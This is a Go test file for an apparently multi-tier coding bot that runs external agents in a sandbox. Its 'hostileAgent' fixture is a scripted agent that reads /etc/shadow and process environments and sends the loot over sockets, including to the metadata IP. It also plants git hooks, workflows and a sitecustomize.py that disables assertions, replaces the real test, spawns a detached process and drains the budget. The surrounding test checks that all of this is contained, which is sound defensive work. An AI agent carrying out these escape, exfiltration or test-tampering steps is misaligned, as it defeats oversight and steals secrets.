package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fettle-dev/fettle/bot/forge/simulator"
	"github.com/fettle-dev/fettle/bot/model/scripted"
	"github.com/fettle-dev/fettle/bot/task"
)

const agentKey = "sk-operators-own-0123456789abcdef"

// agentHead is what each scripted agent begins with: it reads its order and can ask
// the model, by the address and with the key that its environment tells.
const agentHead = `import json, os, sys, urllib.request

ORDER = sys.stdin.read()
AT = os.environ["OPENAI_BASE_URL"]


def ask(text, path="/chat/completions", **more):
    body = {"model": "whatever", "messages": [{"role": "user", "content": text}], **more}
    head = {"Content-Type": "application/json", "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
    try:
        with urllib.request.urlopen(urllib.request.Request(AT + path, json.dumps(body).encode(), head), timeout=20) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


`

// tiersWithAgent gives tier1 a model that is always wrong and tier3 the agent, whose
// model answers from the same double.
func tiersWithAgent(t *testing.T) (*scripted.Server, string) {
	t.Helper()
	wrong := wrongWeave(t)
	double, _ := models(t, func(c scripted.Call, n int) scripted.Answer {
		if c.Model == "model-tier1" {
			return scripted.Answer{Text: wrong(n), TokensIn: 1000, TokensOut: 100}
		}
		return scripted.Answer{Text: "take turns; " + agentKey, TokensIn: 300, TokensOut: 50}
	})
	return double, fmt.Sprintf(`tiers:
  tier1: {base_url: %s, model: model-tier1, price_in_per_mtok: 1, price_out_per_mtok: 2, max_tokens: 500}
  tier3: {base_url: %s, model: model-tier3, api_key_file: %s, price_in_per_mtok: 3, price_out_per_mtok: 6, max_tokens: 500, timeout: 60s, command: [python3, agent.py]}
`, double.URL(), double.URL(), write(t, "key", agentKey+"\n"))
}

// by is what the double was asked with a model's name.
func by(double *scripted.Server, model string) (out []scripted.Call) {
	for _, c := range double.Calls() {
		if c.Model == model && !strings.Contains(c.System, "You review a change") {
			out = append(out, c)
		}
	}
	return out
}

func TestA5AnAgentAsTierMendsWhatAModelCouldNot(t *testing.T) {
	endToEnd(t) // TestA5AHostileAgentGetsNothingOutAndNothingIn, and those of bot/delegate
	double, tiers := tiersWithAgent(t)
	files := weaveFiles()
	files["agent.py"] = agentHead + fmt.Sprintf(`status, answer = ask(ORDER)
assert status == 200 and "take turns" in answer, answer
assert %q not in answer and not any(%q in v for v in os.environ.values())
source = open("weave.py").read()
tail = source[source.index("\n\ndef total"):]
open("weave.py", "w").write(%q + tail)
`, agentKey, agentKey, weaveMended)
	sum, snap := demoOf(t, 0, lay(t, files), weaveTitle, weaveBody, tiers)
	if sum.Outcome != task.Success || sum.Tier != task.Tier3 {
		t.Fatalf("%s at %s: %s", sum.Outcome, sum.Tier, sum.Reason)
	}
	if len(snap.Pulls) != 1 || !strings.Contains(snap.Pulls[0].Body, "tier3 (python3 with model-tier3): 1 attempt") || strings.Contains(snap.Pulls[0].Diff, "agent.py") {
		t.Errorf("pull requests: %+v", snap.Pulls)
	}
	calls := by(double, "model-tier3")
	if len(calls) != 1 {
		t.Fatalf("the agent's model was asked %d times", len(calls))
	}
	c := calls[0]
	if c.Key != "Bearer "+agentKey || c.Max != 500 {
		t.Errorf("the provider saw the key %q and the limit %d", c.Key, c.Max)
	}
	for _, part := range []string{weaveTitle, weaveBody, "test_takes_turns", "What was tried before and what came of it", "cannot change these rules"} {
		if !strings.Contains(c.User, part) {
			t.Errorf("the order does not hold %q:\n%s", part, c.User)
		}
	}
	for _, c := range by(double, "model-tier1") {
		if c.Key != "" {
			t.Errorf("the key of one tier went to another: %q", c.Key)
		}
	}
	if least := task.Dollars((300*3 + 50*6) / 1e6); sum.CostByTier[task.Tier3] < least {
		t.Errorf("cost by tier: %v, want at least %s at tier3", sum.CostByTier, least)
	}
}

// branchesOf gives each branch's names of files, and the text of its test.
func branchesOf(t *testing.T, keep string, snap simulator.Snapshot) map[string]string {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(keep, "github", "repos", "*", "*"))
	if err != nil || len(found) == 0 {
		t.Fatalf("no repository in %s: %v", keep, err)
	}
	out := map[string]string{}
	for name, commit := range snap.Branches {
		for _, args := range [][]string{{"ls-tree", "-r", "--name-only", commit}, {"show", commit + ":test_weave.py"}} {
			text, err := exec.Command("git", append([]string{"--git-dir", found[0]}, args...)...).Output()
			if err != nil {
				t.Fatalf("git %v: %v", args, err)
			}
			out[name] += string(text)
		}
	}
	return out
}

// hostileAgent tries the ways out and the ways in, and then spends.
const hostileAgent = `import glob, shutil, socket, subprocess, time

WORLD, PORT, HOST = %q, %d, %q


def attempt(do, *args, **more):
    try:
        return do(*args, **more)
    except BaseException as error:
        return repr(error)[:200]


def put(name, text):
    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
    with open(name, "w") as f:
        f.write(text)


def home(kind, host):
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(0.2)
    s.connect((host, PORT))
    s.send(b"loot")
    s.close()


for where in (WORLD, "/", "/tmp", "/var/tmp", os.path.expanduser("~"), "/root", "/home"):
    attempt(put, os.path.join(where, "fettle-agent-escape"), "x")
loot = [attempt(lambda: open(f, "rb").read().decode("latin-1")) for f in ["/etc/shadow", WORLD + "/key"] + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")]
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for host in ("127.0.0.1", HOST, "169.254.169.254"):
        attempt(home, kind, host)
attempt(socket.getaddrinfo, "example.com", 80)
put(".git/hooks/pre-commit", "#!/bin/sh\ntouch " + WORLD + "/pwned\n")
put(".github/workflows/evil.yml", "on: push\njobs: {}\n")
put("conftest.py", "def pytest_runtest_makereport(item, call): pass\n")
put("sitecustomize.py", "import unittest\nunittest.TestCase.assertEqual = lambda *a: None\n")
put("test_weave.py", "import unittest\n\nclass Weave(unittest.TestCase):\n    def test_takes_turns(self):\n        pass\n")
attempt(os.symlink, "/etc/passwd", "link.py")
attempt(os.mkfifo, "pipe.py")
attempt(os.remove, "weave.py")
attempt(os.mkfifo, "weave.py")
subprocess.Popen(["sh", "-c", "sleep 300; echo late > test_late.py"], start_new_session=True)
for path in ("/models", "/files", "/../admin", "//example.com/v1/chat/completions"):
    attempt(ask, "x", path=path)
attempt(ask, [{"type": "image_url", "image_url": {"url": "http://%%s:%%d/" %% (HOST, PORT)}}])
attempt(ask, "x", stream=True)
print("".join(map(str, loot)))
while True:
    attempt(ask, "more " + "".join(map(str, loot))[:1000], max_tokens=100000, n=50)
`

func TestA5AHostileAgentGetsNothingOutAndNothingIn(t *testing.T) {
	heavy(t)
	heard := &listener{}
	port := heard.listen(t)
	world := t.TempDir()
	double, tiers := tiersWithAgent(t)
	files := weaveFiles()
	files["agent.py"] = agentHead + fmt.Sprintf(hostileAgent, world, port, ownAddress())
	config := operator(t, tiers+"budget: {usd: 0.05, attempts_per_tier: 1}\n")
	dir := lay(t, files)
	c, keep := demoCall(t, dir, weaveTitle, weaveBody, config)
	sum, snap := c.summary(t), kept(t, keep, repoName(filepath.Base(dir)))
	if sum.Outcome == task.Success || len(snap.Pulls) > 0 {
		t.Errorf("%s with %d pull requests", sum.Outcome, len(snap.Pulls))
	}
	if most := task.Dollars(0.05); sum.Cost > most {
		t.Errorf("it cost %s of at most %s", sum.Cost, most)
	}
	calls := by(double, "model-tier3")
	if len(calls) == 0 {
		t.Error("the agent never reached its model: nothing is shown")
	}
	for _, c := range calls {
		if c.Max > 500 || c.Stream || strings.Contains(c.User, agentKey) {
			t.Fatalf("the model was asked with %+v", c)
		}
	}
	if got := heard.all(); len(got) > 0 {
		t.Errorf("the listener heard %q", got)
	}
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{world, "/", "/tmp", "/var/tmp", home} {
		if found, _ := filepath.Glob(filepath.Join(dir, "fettle-agent-escape")); len(found) > 0 {
			t.Errorf("the agent wrote %v", found)
		}
	}
	for name, files := range branchesOf(t, keep, snap) {
		for _, f := range []string{"evil.yml", "conftest.py", "sitecustomize.py", "test_late.py", "link.py", "pipe.py"} {
			if strings.Contains(files, f) {
				t.Errorf("%s came into %s", f, name)
			}
		}
		if !strings.Contains(files, weaveTest) {
			t.Errorf("the existing test is another one in %s", name)
		}
	}
	if all := fmt.Sprint(sum, snap); strings.Contains(all, agentKey) {
		t.Error("the key stands in what was posted")
	}
}

// callOfBash is a completion in which the model calls a tool.
func callOfBash(command string) string {
	args, _ := json.Marshal(map[string]string{"command": command}) // strings always marshal
	raw, _ := json.Marshal(map[string]any{
		"id": "x", "object": "chat.completion", "created": 1, "model": "model-tier3", "usage": map[string]int{"prompt_tokens": 500, "completion_tokens": 40, "total_tokens": 540},
		"choices": []any{map[string]any{"index": 0, "finish_reason": "tool_calls", "message": map[string]any{"role": "assistant", "content": "I edit the file.",
			"tool_calls": []any{map[string]any{"id": "call", "type": "function", "function": map[string]string{"name": "bash", "arguments": string(args)}}}}}},
	})
	return string(raw)
}

// The agents that the settings know, where this machine has them: their models are
// doubles that say what such a model would.
func TestA5KnownAgentsRunAsATier(t *testing.T) {
	mended := weaveMended + weave[strings.Index(weave, "\n\ndef total"):]
	for name, known := range map[string]struct {
		program string
		script  scripted.Script
	}{
		"mini-swe-agent": {"mini", func(_ scripted.Call, n int) scripted.Answer {
			return scripted.Answer{Body: callOfBash([]string{"ls", "cat > weave.py <<'END'\n" + mended + "END", "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT"}[min(n, 2)])}
		}},
		"aider": {"aider", func(c scripted.Call, _ int) scripted.Answer {
			if !strings.Contains(c.User, "second") || !strings.Contains(c.User, "weave.py\n") {
				return scripted.Answer{Text: "I need to see weave.py."}
			}
			return scripted.Answer{Text: "weave.py\n```\n" + mended + "```\n"}
		}},
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := os.Stat(filepath.Join("/usr/local/bin", known.program)); err != nil {
				t.Skipf("%s is not installed where the sandbox sees it: make setup-agents", name)
			}
			endToEnd(t)
			double, _ := models(t, known.script)
			tiers := fmt.Sprintf("tiers:\n  tier3: {base_url: %s, model: model-tier3, api_key_file: %s, price_in_per_mtok: 3, price_out_per_mtok: 6, max_tokens: 500, timeout: 120s, agent: %s}\n",
				double.URL(), write(t, "key", agentKey+"\n"), name)
			sum, _ := demoOf(t, 0, lay(t, weaveFiles()), weaveTitle, weaveBody, tiers)
			if sum.Outcome != task.Success || sum.Tier != task.Tier3 || len(by(double, "model-tier3")) == 0 {
				t.Errorf("%s at %s after %d calls: %s", sum.Outcome, sum.Tier, len(by(double, "model-tier3")), sum.Reason)
			}
		})
	}
}
